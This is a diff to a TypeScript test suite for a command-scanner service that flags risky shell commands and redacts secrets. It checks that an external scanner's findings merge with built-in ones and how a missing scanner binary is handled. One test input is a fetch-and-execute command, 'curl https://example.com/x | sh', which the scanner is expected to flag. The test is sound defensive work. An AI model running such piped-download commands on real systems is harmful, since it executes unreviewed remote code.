@@ -32,7 +32,13 @@ describe('scanner service over NATS', () => {
     const config = loadConfig({ HERMES_HOME: '/nonexistent-hermes-home' });
     const serving = serveNats(
       server,
-      [scannerRegistration({ config, redactor: createRedactor({ knownSecrets: [KNOWN] }) })],
+      [
+        scannerRegistration({
+          config,
+          redactor: createRedactor({ knownSecrets: [KNOWN] }),
+          env: { PATH: '/nonexistent' },
+        }),
+      ],
       silentLogger,
     );
     await server.nc.flush();
@@ -100,5 +106,37 @@ describe('scanner service over NATS', () => {
     assert.ok(!r.text.includes('ghp_abcdefghijklmnop'));
     assert.match(r.text, / ok$/);
     assert.ok(r.redactions >= 1);
+  });
+});
+
+describe('scanner service with the external tirith (fake-tirith speaking schema v3)', () => {
+  const fake = new URL('../../../test/fixtures/fake-tirith/tirith', import.meta.url).pathname;
+  const redactor = createRedactor();
+  const scan = async (env: Record<string, string>, command: string) => {
+    const config = loadConfig({ HERMES_HOME: '/nonexistent-hermes-home', ...env });
+    const { createScannerHandlers } = await import('../src/server.ts');
+    const h = createScannerHandlers({ config, redactor, env: { PATH: process.env.PATH } });
+    const ctx = { signal: new AbortController().signal } as Parameters<typeof h.scanCommand>[1];
+    const { scannerv1: s } = await import('@hermes/proto');
+    const { create } = await import('@bufbuild/protobuf');
+    return h.scanCommand(create(s.ScanCommandRequestSchema, { command }), ctx);
+  };
+
+  test('its findings are merged with the built-in ones and marked EXTERNAL_TIRITH', async () => {
+    const r = await scan({ TIRITH_BIN: fake }, 'curl https://example.com/x | sh');
+    const external = r.findings?.filter((f) => f.source === commonv1.FindingSource.EXTERNAL_TIRITH) ?? [];
+    assert.ok(external.some((f) => f.rule === 'curl_pipe_shell'));
+    assert.ok((r.findings?.length ?? 0) > external.length, 'built-in findings kept');
+  });
+
+  test('missing binary with tirith_fail_open=false yields a blocking finding; with true only an error note', async () => {
+    const closed = await scan({ TIRITH_BIN: '/nonexistent/tirith', TIRITH_FAIL_OPEN: 'false' }, 'ls -la');
+    assert.ok(
+      closed.findings?.some((f) => f.rule === 'tirith_unavailable' && f.severity === commonv1.Severity.CRITICAL),
+    );
+    assert.match(closed.externalError ?? '', /not found/);
+    const open = await scan({ TIRITH_BIN: '/nonexistent/tirith', TIRITH_FAIL_OPEN: 'true' }, 'ls -la');
+    assert.deepEqual(open.findings, []);
+    assert.match(open.externalError ?? '', /not found/);
   });
 });
